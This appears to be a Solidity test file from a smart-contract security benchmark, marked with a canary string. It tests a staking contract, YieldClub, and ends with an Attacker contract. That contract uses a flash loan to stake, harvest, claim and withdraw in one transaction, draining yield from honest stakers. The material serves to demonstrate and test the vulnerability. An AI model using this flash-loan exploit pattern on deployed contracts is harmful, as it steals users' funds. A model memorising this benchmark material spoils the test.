// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./YieldClub.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-b1648067-6031-4374-892f-3703373be045

interface Vm {
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private maker = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker");
        _mint(to, amount);
    }
}

contract Source is ISource {
    IERC20 public immutable token;
    address private club;

    constructor(IERC20 t) {
        token = t;
    }

    function open(address c) external {
        require(club == address(0), "open");
        club = c;
    }

    function drip() external returns (uint256 a) {
        require(msg.sender == club, "club");
        a = token.balanceOf(address(this));
        token.transfer(club, a);
    }
}

interface IBorrower {
    function lent(uint256 amount) external;
}

contract Lender {
    IERC20 private token;

    constructor(IERC20 t) {
        token = t;
    }

    function lend(uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        token.transfer(msg.sender, amount);
        IBorrower(msg.sender).lent(amount);
        require(token.balanceOf(address(this)) >= before, "not repaid");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    Coin private token;
    Source private source;
    YieldClub private club;
    Lender private lender;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        source = new Source(token);
        club = new YieldClub(source);
        source.open(address(club));
        lender = new Lender(token);
        token.mint(address(lender), 9_000e18);
        address[2] memory all = [ANA, BEN];
        for (uint256 i = 0; i < 2; i++) {
            token.mint(all[i], 500e18);
            vm.startPrank(all[i]);
            token.approve(address(club), type(uint256).max);
            club.enqueue(300e18);
            vm.stopPrank();
        }
        mallory = new Attacker(club, token, lender);
        token.mint(address(mallory), 1e18);
        mallory.join();
        vm.warp(START + 1 days);
        vm.prank(ANA);
        club.activate();
        vm.prank(BEN);
        club.activate();
        token.mint(address(source), 100e18);
    }

    function test_Regular() public {
        require(club.active() == 600e18, "both");
        require(club.harvest() == 100e18, "yield");
        vm.startPrank(ANA);
        require(club.claim() >= 49e18, "half");
        club.leave(100e18);
        club.enqueue(50e18);
        club.dequeue(20e18);
        vm.stopPrank();
        vm.warp(START + 2 days);
        vm.prank(ANA);
        require(club.activate() == 30e18 && club.stakes(ANA) == 230e18, "again");
        token.mint(address(source), 53e18);
        club.harvest();
        vm.startPrank(BEN);
        require(club.claim() >= 79e18, "more of it");
        club.leave(300e18);
        vm.stopPrank();
        require(token.balanceOf(BEN) >= 579e18 && club.active() == 230e18, "left");
    }

    function test_Refuses() public {
        vm.startPrank(ANA);
        vm.expectRevert(Zero.selector);
        club.enqueue(0);
        vm.expectRevert(Zero.selector);
        club.activate();
        club.enqueue(10e18);
        vm.expectRevert(TooMuch.selector);
        club.dequeue(11e18);
        vm.expectRevert(Soon.selector);
        club.activate();
        vm.expectRevert(TooMuch.selector);
        club.leave(301e18);
        vm.expectRevert(Zero.selector);
        club.claim();
        club.leave(300e18);
        vm.stopPrank();
        vm.prank(BEN);
        club.leave(299.5e18);
        vm.expectRevert(Soon.selector);
        club.harvest();
        vm.expectRevert(Zero.selector);
        new YieldClub(ISource(address(0)));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 80e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(club);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker is IBorrower {
    YieldClub private club;
    IERC20 private token;
    Lender private lender;

    constructor(YieldClub c, IERC20 t, Lender l) {
        club = c;
        token = t;
        lender = l;
    }

    function join() external {
        token.approve(address(club), type(uint256).max);
        club.enqueue(1e18);
    }

    function run() external {
        lender.lend(9_000e18);
    }

    function lent(uint256 amount) external {
        require(msg.sender == address(lender), "lender");
        club.enqueue(amount);
        club.activate();
        club.harvest();
        club.claim();
        club.leave(amount);
        token.transfer(address(lender), amount);
    }
}
